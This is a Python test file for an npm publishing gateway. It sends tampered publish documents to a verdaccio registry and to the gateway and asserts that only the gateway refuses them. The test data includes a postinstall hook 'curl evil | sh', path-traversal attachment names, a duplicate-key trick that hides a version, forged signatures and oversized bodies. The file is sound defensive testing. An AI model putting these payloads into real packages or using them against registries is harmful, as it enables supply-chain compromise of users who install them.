"""What a real verdaccio believes when it is asked directly, and that the gateway stops each of it (FACTS-PYPI-NPM 6).

Each case is a good publish document with one thing changed, sent to verdaccio with its own credential and, as another
package, to the gateway; with the evidence in the locker, so that nothing but the change can be what it is refused for.
"""

from __future__ import annotations

import base64
import gzip
import hashlib
import http.client
import json
import os
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any
from urllib.parse import urlsplit

import pytest

from tests.lab.npm import NpmPackage, npm_package
from tests.lab.npm_world import NpmWorld, npm_world

MIB = 1 << 20
Document = dict[str, Any]


@pytest.fixture(scope="module")
def world(tmp_path_factory: pytest.TempPathFactory) -> Iterator[NpmWorld]:
    with npm_world(tmp_path_factory.mktemp("differentials")) as made:
        yield made


def send(url: str, path: str, body: bytes, authorization: str, *, method: str = "PUT", **headers: str) -> int:
    """Send a request whole; 0 where it was cut off before the answer could be read."""
    connection = http.client.HTTPConnection(urlsplit(url).netloc, timeout=60)
    sent = {"Content-Type": "application/json", "Authorization": authorization, **headers}
    try:
        connection.request(method, path, body, {name.replace("_", "-"): value for name, value in sent.items()})
        answer = connection.getresponse()
        answer.read()
    except ConnectionError:
        return 0
    finally:
        connection.close()
    return answer.status


TOKENS: dict[Path, str] = {}  # one for all tests: a command takes a second


def _token(world: NpmWorld) -> str:
    if world.folder not in TOKENS:
        TOKENS[world.folder] = world.token()
    return TOKENS[world.folder]


def put_direct(world: NpmWorld, of: NpmPackage, body: bytes, **headers: str) -> int:
    basic = "Basic " + base64.b64encode(world.upstream.credential.encode()).decode()
    return send(world.upstream.url, of.path, body, basic, **headers)


def put_gated(world: NpmWorld, of: NpmPackage, body: bytes, **headers: str) -> int:
    return send(world.address, f"/npm{of.path}", body, f"Bearer {_token(world)}", **headers)


def packument(world: NpmWorld, of: NpmPackage) -> Document:
    """What verdaccio serves of a package; empty where it has none."""
    connection = http.client.HTTPConnection(urlsplit(world.upstream.url).netloc, timeout=60)
    connection.request("GET", of.path)
    answer = connection.getresponse()
    found: Document = json.loads(answer.read()) if answer.status == 200 else {}
    connection.close()
    return found


def manifest(document: Document) -> Document:
    found: Document = document["versions"]["1.0.0"]
    return found


def tarball(document: Document) -> Document:
    found: Document = document["_attachments"][f"{document['name']}-1.0.0.tgz"]
    return found


def renamed(document: Document, name: str) -> None:
    document["_attachments"] = {name: tarball(document)}


@dataclass(frozen=True)
class Case:
    """One change; `status` is verdaccio's, `believed` what its packument then shows, `codes` the gateway's."""

    change: Callable[[Document], object]
    status: int
    believed: Callable[[Document], bool]
    codes: set[str]


def _served(document: Document) -> bool:
    return set(document.get("versions", {})) == {"1.0.0"}


def _anything(_: Document) -> bool:
    return True


METADATA = {"package-metadata-mismatch"}
CASES: dict[str, Case] = {
    "a manifest that hides an install script": Case(
        lambda d: manifest(d).update(scripts={"postinstall": "curl evil | sh"}),
        201,
        lambda d: d["versions"]["1.0.0"]["scripts"] == {"postinstall": "curl evil | sh"},
        METADATA,
    ),
    "dependencies that the tarball has not": Case(
        lambda d: manifest(d).update(dependencies={"evil": "1"}),
        201,
        lambda d: d["versions"]["1.0.0"]["dependencies"] == {"evil": "1"},
        METADATA,
    ),
    "an integrity that lies": Case(
        lambda d: manifest(d)["dist"].update(integrity="sha512-" + base64.b64encode(bytes(64)).decode()),
        201,
        lambda d: str(d["versions"]["1.0.0"]["dist"]["integrity"]).startswith("sha512-AAAA"),
        {"form-digest-mismatch"},
    ),
    "a shasum that lies": Case(
        lambda d: manifest(d)["dist"].update(shasum="0" * 40), 400, _anything, {"form-digest-mismatch"}
    ),
    "a length that lies": Case(lambda d: tarball(d).update(length=7), 201, _served, METADATA),
    "an attachment of another version": Case(lambda d: renamed(d, "evil-9.9.9.tgz"), 201, _served, METADATA),
    "an attachment's way up": Case(lambda d: renamed(d, "../../evil-1.0.0.tgz"), 201, _served, METADATA),
    "a key in versions that is not the manifest's version": Case(
        lambda d: manifest(d).update(version="9.9.9"),
        201,
        lambda d: d["versions"]["1.0.0"]["version"] == "9.9.9",
        METADATA,
    ),
    "a manifest of another name": Case(
        lambda d: manifest(d).update(name="@acme/other"),
        201,
        lambda d: d["versions"]["1.0.0"]["name"] == "@acme/other",
        METADATA,
    ),
    "a document of another name": Case(lambda d: d.update(name="@acme/other"), 422, lambda d: not d, METADATA),
    "two tarballs": Case(
        lambda d: d["_attachments"].update({"evil-1.0.0.tgz": tarball(d)}), 400, _anything, {"upload-malformed"}
    ),
    "base64 that two readers read differently": Case(
        lambda d: tarball(d).update(data="QUJD=QUJD"), 400, _anything, {"upload-malformed"}
    ),
}


def both(world: NpmWorld, name: str) -> tuple[NpmPackage, NpmPackage]:
    """One package for verdaccio and one, attested, for the gateway."""
    stem = hashlib.sha256(name.encode()).hexdigest()[:8]
    direct, gated = (npm_package(name=f"@acme/{kind}-{stem}") for kind in ("direct", "gated"))
    sent = send(
        world.address,
        f"/-/evidence?digest=sha512:{gated.sha512}",
        world.bundle(gated),
        f"Bearer {_token(world)}",
        method="POST",
    )
    assert sent == 201
    return direct, gated


@pytest.mark.parametrize("name", CASES)
def test_what_verdaccio_believes_the_gateway_stops(world: NpmWorld, name: str) -> None:
    case = CASES[name]
    direct, gated = both(world, name)
    sent = [one.document() for one in (direct, gated)]
    for document in sent:
        case.change(document)
    assert put_direct(world, direct, json.dumps(sent[0]).encode()) == case.status
    assert case.believed(packument(world, direct))
    assert put_gated(world, gated, json.dumps(sent[1]).encode()) in {400, 403}
    assert world.codes() == case.codes
    assert gated.name not in world.upstream.packages()
    # The evidence was good: without the change the very same package is published.
    assert put_gated(world, gated, json.dumps(gated.document()).encode()) == 201


def test_a_key_twice_publishes_another_version_than_a_reader_saw(world: NpmWorld) -> None:
    direct, gated = both(world, "twice")

    def twice(of: NpmPackage) -> bytes:
        hidden = json.dumps({"3.3.3": of.document()["versions"]["1.0.0"] | {"version": "3.3.3"}})
        return json.dumps(of.document()).replace('"access":', f'"versions": {hidden}, "access":', 1).encode()

    put_direct(world, direct, twice(direct))
    assert set(packument(world, direct)["versions"]) == {"3.3.3"}
    assert put_gated(world, gated, twice(gated)) == 400
    assert world.codes() == {"upload-malformed"}
    assert gated.name not in world.upstream.packages()


@pytest.mark.parametrize("kind", ["UTF-16", "gzip"])
def test_a_body_in_another_coding_is_read_by_verdaccio_alone(world: NpmWorld, kind: str) -> None:
    direct, gated = both(world, kind)

    def coded(of: NpmPackage) -> tuple[bytes, dict[str, str]]:
        text = json.dumps(of.document())
        if kind == "gzip":
            return gzip.compress(text.encode()), {"Content_Encoding": "gzip"}
        return text.encode("utf-16"), {"Content_Type": "application/json; charset=utf-16"}

    body, headers = coded(direct)
    assert put_direct(world, direct, body, **headers) == 201
    body, headers = coded(gated)
    assert put_gated(world, gated, body, **headers) == {"gzip": 415, "UTF-16": 400}[kind]
    assert gated.name not in world.upstream.packages()


def test_signatures_and_attestations_that_a_publisher_made_up_are_served_by_verdaccio_alone(world: NpmWorld) -> None:
    direct, gated = both(world, "forged")
    forged = {"signatures": [{"keyid": "x", "sig": "y"}], "attestations": {"url": "https://evil.example"}}
    for one, put in ((direct, put_direct), (gated, put_gated)):
        document = one.document()
        manifest(document)["dist"] |= forged
        assert put(world, one, json.dumps(document).encode()) == 201
    assert forged.items() <= packument(world, direct)["versions"]["1.0.0"]["dist"].items()
    assert not set(forged) & set(packument(world, gated)["versions"]["1.0.0"]["dist"])


def test_a_bundle_beside_the_tarball_leaves_an_empty_package_in_verdaccio_alone(world: NpmWorld) -> None:
    direct, gated = both(world, "bundle")
    assert put_direct(world, direct, json.dumps(direct.document(world.bundle(direct))).encode()) == 400
    assert direct.name in world.upstream.packages()
    assert put_gated(world, gated, json.dumps(gated.document(world.bundle(gated))).encode()) == 201
    assert set(packument(world, gated)["versions"]) == {"1.0.0"}


def _memory(pid: int, what: str) -> int:
    for line in Path(f"/proc/{pid}/status").read_text().splitlines():
        if line.startswith(f"{what}:"):
            return int(line.split()[1]) * 1024
    raise AssertionError(what)


def test_hostile_sizes_cost_the_gateway_bounded_memory(world: NpmWorld) -> None:
    pid = world.gateway.pid
    package = npm_package(name="@acme/huge")
    noise = os.urandom(75 * MIB)
    document = NpmPackage(package.manifest, noise).document()
    deep = npm_package({}, name="@acme/huge", description="a" * (100 * MIB))
    bodies: dict[str, tuple[set[int], bytes]] = {
        "100 MB, nearly all of it a tarball": ({400}, json.dumps(document).encode()),
        "60 MB of text": ({413}, json.dumps({"readme": "a" * (60 * MIB)}).encode()),
        # Only so much is taken in of what is refused: the rest is cut off.
        "100 MB of text": ({413, 0}, json.dumps({"readme": "a" * (100 * MIB)}).encode()),
        "a package.json of 100 MB": ({400}, json.dumps(NpmPackage(package.manifest, deep.content).document()).encode()),
    }
    Path(f"/proc/{pid}/clear_refs").write_text("5")
    before = _memory(pid, "VmRSS")
    for name, (statuses, body) in bodies.items():
        assert put_gated(world, package, body) in statuses, name
    assert _memory(pid, "VmHWM") - before < 96 * MIB
    assert package.name not in world.upstream.packages()
